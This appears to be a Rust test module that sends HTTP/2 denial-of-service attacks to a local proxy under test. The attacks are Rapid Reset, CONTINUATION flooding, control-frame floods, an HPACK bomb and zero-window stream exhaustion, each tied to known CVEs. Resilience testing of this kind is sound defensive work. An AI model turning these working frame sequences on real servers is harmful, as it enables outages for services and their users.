//! What HTTP/2 lets a client do at little cost of its own (RFC 9113, section 10.5), as frames.

use std::{thread, time::Duration};

use crate::{
    clients::{attacker, until},
    frames::{Client, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, block, frame},
    servers::Proxy,
};

/// A frame that frames.rs has no other use for.
const CONTINUATION: u8 = 9;

/// A request's fields.
fn fields(path: &str) -> Vec<u8> {
    let pairs = [(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", path)];
    block(&pairs.map(|(name, value)| (name.to_owned(), value.to_owned())))
}

/// Does something with one connection after the other.
fn again(proxy: &Proxy, stop: &dyn Fn() -> bool, with: impl Fn(&mut Client)) {
    while !stop() {
        let stream = attacker(proxy);
        stream.set_write_timeout(Some(Duration::from_millis(500))).unwrap();
        let mut client = Client::connect(stream);
        with(&mut client);
        thread::sleep(Duration::from_millis(5));
    }
}

/// Streams that are opened and reset at once (CVE-2023-44487).
pub(crate) fn rapid_reset(proxy: &Proxy, stop: &dyn Fn() -> bool) {
    let block = fields("/items");
    again(proxy, stop, |client| {
        for batch in 0..50 {
            let mut bytes = Vec::new();
            for number in 0..100 {
                let stream = (batch * 100 + number) * 2 + 1;
                bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &block));
                bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            }
            if stop() || !client.send(&bytes) {
                return;
            }
        }
    });
}

/// A block of headers that goes on for as long as it is read (CVE-2024-27316 and its like).
pub(crate) fn continuation(proxy: &Proxy, stop: &dyn Fn() -> bool) {
    let more = frame(CONTINUATION, 0, 1, &block(&[("x".to_owned(), "y".repeat(4000))])).repeat(4);
    again(proxy, stop, |client| {
        let mut taken = client.send(&frame(HEADERS, END_STREAM, 1, &fields("/items")));
        for _ in 0..4_000 {
            taken = taken && client.send(&more);
        }
        assert!(!taken, "64 MB of headers were taken");
    });
}

/// Frames that have to be answered, by a client that does not read.
pub(crate) fn control_frames(proxy: &Proxy, stop: &dyn Fn() -> bool) {
    let pair = [frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]), frame(PING, 0, 0, &[7; 8])].concat().repeat(50);
    again(proxy, stop, |client| {
        for _ in 0..200 {
            if stop() || !client.send(&pair) {
                return;
            }
            thread::sleep(Duration::from_millis(1));
        }
    });
}

/// A value that is sent once, and named some 15,000 times in each block (CVE-2016-6581): 60 MB of headers out of 16 KB.
pub(crate) fn hpack_bomb(proxy: &Proxy, stop: &dyn Fn() -> bool) {
    again(proxy, stop, |client| {
        let mut block = fields("/items");
        // A literal that goes into the table (RFC 7541, section 6.2.1), whose newest entry is 62.
        let mut literal = self::block(&[("x".to_owned(), "y".repeat(3900))]);
        literal[0] = 0x40;
        block.extend(literal);
        block.resize(16_000, 0x80 | 62);
        let mut stream = 1;
        while !stop()
            && stream < 200
            && client.send(&frame(HEADERS, END_HEADERS | END_STREAM, stream, &block))
        {
            block.clone_from(&fields("/items"));
            block.resize(16_000, 0x80 | 62);
            stream += 2;
        }
    });
}

/// 100 connections with 100 streams each, all of which ask for 8 MiB and take nothing.
pub(crate) fn shut_windows(proxy: &Proxy, stop: &dyn Fn() -> bool) {
    let block = fields("/large");
    let clients: Vec<Client> = (0..100)
        .map(|_| {
            let mut client = Client::connect(attacker(proxy));
            let mut bytes = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
            for number in 0..100 {
                bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, number * 2 + 1, &block));
            }
            client.send(&bytes);
            client
        })
        .collect();
    until(stop);
    drop(clients);
}
